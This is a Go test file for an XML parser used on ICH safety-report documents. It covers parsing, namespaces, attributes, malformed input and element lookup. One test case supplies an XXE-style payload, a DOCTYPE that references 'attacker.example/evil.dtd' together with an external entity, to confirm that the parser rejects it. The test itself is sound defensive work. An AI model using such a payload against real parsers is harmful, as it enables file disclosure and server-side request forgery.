package xmltree

import (
	"thinktrends.com/icsr/types"
	"github.com/stretchr/testify/require"
	"testing"
)

func TestParse(t *testing.T) {
	t.Run("Basic document", testParseBasic)
	t.Run("Namespaces and case are normalized", testParseNamespaces)
	t.Run("Attributes are kept", testParseAttributes)
	t.Run("Empty input", testParseEmpty)
	t.Run("Unparseable markup", testParseUnparseable)
	t.Run("Truncated document", testParseTruncated)
	t.Run("Content after root", testParseContentAfterRoot)
	t.Run("Doctype with entity declarations", testParseDoctype)
}

func testParseBasic(t *testing.T) {
	root, err := Parse([]byte(`<?xml version="1.0"?>
<ichicsr>
	<safetyreport>
		<safetyreportid>US-TEST-001</safetyreportid>
	</safetyreport>
</ichicsr>`))
	require.NoError(t, err)
	require.Equal(t, "ichicsr", root.Tag)
	require.Len(t, root.Children, 1)

	report := root.Child("safetyreport")
	require.NotNil(t, report)
	id, ok := report.ChildText("safetyreportid")
	require.True(t, ok)
	require.Equal(t, "US-TEST-001", id)
}

func testParseNamespaces(t *testing.T) {
	root, err := Parse([]byte(`<e2b:IchIcsr xmlns:e2b="urn:example:e2b"><e2b:SafetyReport/></e2b:IchIcsr>`))
	require.NoError(t, err)
	require.Equal(t, "ichicsr", root.Tag)
	require.NotNil(t, root.Child("safetyreport"))
	require.Empty(t, root.Attrs, "xmlns declarations should not survive as attributes")
}

func testParseAttributes(t *testing.T) {
	root, err := Parse([]byte(`<ichicsr Lang="en"><safetyreport/></ichicsr>`))
	require.NoError(t, err)
	lang, ok := root.Attr("lang")
	require.True(t, ok)
	require.Equal(t, "en", lang)
	_, ok = root.Attr("missing")
	require.False(t, ok)
}

func testParseEmpty(t *testing.T) {
	for _, data := range [][]byte{nil, []byte(""), []byte("   \n\t ")} {
		_, err := Parse(data)
		require.Error(t, err)
		_, ok := types.AsMalformedDocument(err)
		require.True(t, ok)
	}
}

func testParseUnparseable(t *testing.T) {
	_, err := Parse([]byte(`<ichicsr><safetyreport></ichicsr>`))
	require.Error(t, err)
	malformed, ok := types.AsMalformedDocument(err)
	require.True(t, ok)
	require.Contains(t, malformed.Error(), "unparseable markup")
}

func testParseTruncated(t *testing.T) {
	_, err := Parse([]byte(`<ichicsr><safetyreport>`))
	require.Error(t, err)
	_, ok := types.AsMalformedDocument(err)
	require.True(t, ok)
}

func testParseContentAfterRoot(t *testing.T) {
	// A second element, stray text after the root, and stray text before it
	// are all not well-formed. Trailing whitespace is fine.
	for _, data := range []string{
		`<ichicsr/><ichicsr/>`,
		`<ichicsr/>garbage`,
		`garbage<ichicsr/>`,
	} {
		_, err := Parse([]byte(data))
		require.Error(t, err, "input %q", data)
		_, ok := types.AsMalformedDocument(err)
		require.True(t, ok)
	}

	_, err := Parse([]byte("<ichicsr/>\n\t "))
	require.NoError(t, err)
}

func testParseDoctype(t *testing.T) {
	// External DTD references must never be fetched. The decoder only knows
	// the predefined entities, so the undeclared reference fails the parse
	// instead of expanding.
	data := []byte(`<?xml version="1.0"?>
<!DOCTYPE ichicsr SYSTEM "http://attacker.example/evil.dtd">
<ichicsr><safetyreport>&ext;</safetyreport></ichicsr>`)
	_, err := Parse(data)
	require.Error(t, err)
	_, ok := types.AsMalformedDocument(err)
	require.True(t, ok)
}

func TestFind(t *testing.T) {
	root, err := Parse([]byte(`
<ichicsr>
	<safetyreport>
		<patient>
			<drug><medicinalproduct>FIRST</medicinalproduct></drug>
			<drug><medicinalproduct>SECOND</medicinalproduct></drug>
		</patient>
	</safetyreport>
</ichicsr>`))
	require.NoError(t, err)

	patient := root.Find("patient")
	require.NotNil(t, patient)

	drugs := root.FindAll("drug")
	require.Len(t, drugs, 2)
	first, _ := drugs[0].ChildText("medicinalproduct")
	second, _ := drugs[1].ChildText("medicinalproduct")
	require.Equal(t, "FIRST", first)
	require.Equal(t, "SECOND", second)

	require.Nil(t, root.Find("reaction"))
	require.Empty(t, root.FindAll("reaction"))
}

func TestTextTrimming(t *testing.T) {
	root, err := Parse([]byte("<ichicsr><safetyreportid>\n  US-1  \n</safetyreportid></ichicsr>"))
	require.NoError(t, err)
	id, ok := root.ChildText("safetyreportid")
	require.True(t, ok)
	require.Equal(t, "US-1", id)

	// An empty element is present but empty, which is not the same as absent.
	root, err = Parse([]byte("<ichicsr><receivedate></receivedate></ichicsr>"))
	require.NoError(t, err)
	date, ok := root.ChildText("receivedate")
	require.True(t, ok)
	require.Empty(t, date)
}
